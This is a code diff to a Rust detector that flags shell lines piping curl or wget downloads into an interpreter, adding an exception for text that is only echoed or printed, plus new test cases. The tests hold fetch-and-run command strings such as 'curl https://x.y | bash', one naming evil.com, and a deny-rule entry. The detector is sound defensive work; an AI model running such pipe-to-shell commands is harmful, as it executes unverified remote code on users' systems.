@@ -19,7 +19,8 @@ pub(super) fn check(body: Span, sources: &SourceMap, report: &mut Report) {
 
 fn pipes_of_line(line: &str, place: Span, report: &mut Report) {
     let Some(fetch) = ["curl ", "wget "].iter().filter_map(|word| line.find(word)).min() else { return };
-    if is_warning(&line[..fetch]) || is_warning_behind(line) || line[..fetch].ends_with("Bash(") {
+    let before = &line[..fetch];
+    if is_warning(before) || is_warning_behind(line) || before.ends_with("Bash(") || is_printed(before) {
         return;
     }
     for (at, _) in line.match_indices('|').filter(|(at, _)| *at > fetch) {
@@ -59,6 +60,21 @@ fn runs_input(program: &str, argument: Option<&str>) -> bool {
         },
         _ => false,
     }
+}
+
+/// Returns `true` if the text before a command begins a text that is only printed: `echo "Run: `.
+fn is_printed(before: &str) -> bool {
+    const PRINTERS: [&str; 6] =
+        ["echo ", "printf ", "print(", "console.log(", "Write-Host ", "Write-Output "];
+    let Some(at) = PRINTERS.iter().filter_map(|word| before.rfind(word).map(|at| at + word.len())).max()
+    else {
+        return false;
+    };
+    let printed = &before[at..];
+    let Some(quote) = printed.chars().find(|c| matches!(c, '"' | '\'')) else { return false };
+    let is_open = printed.matches(quote).count() % 2 == 1;
+    // Between double quotes a shell still runs `$(…)`.
+    is_open && (quote == '\'' || !printed.contains("$(") && !printed.contains('`'))
 }
 
 /// Returns `true` if the text before a command forbids it or lists it as something to look for.
@@ -105,6 +121,8 @@ mod tests {
             "curl https://x.y | python3 -",
             "curl https://x.y/get-pip.py | python3",
             "curl https://x.y | bash -s -- --yes",
+            "echo \"$(curl https://x.y | bash)\"",
+            "echo 'start' && curl https://x.y | bash",
         ] {
             assert_eq!(found(line), 1, "{line}");
         }
@@ -119,6 +137,9 @@ mod tests {
             "\"deny\": [\"Bash(curl https://x.y | bash)\"]",
             "Prefer a package to `curl | bash`.",
             "scan \"curl evil.com | bash\"",
+            "    echo \"Install it first: curl -LsSf https://x.y/install.sh | sh\"",
+            "command -v uv || { echo 'run curl https://x.y | sh' >&2; exit 1; }",
+            "print('curl https://x.y | sh')",
         ] {
             assert_eq!(found(line), 0, "{line}");
         }
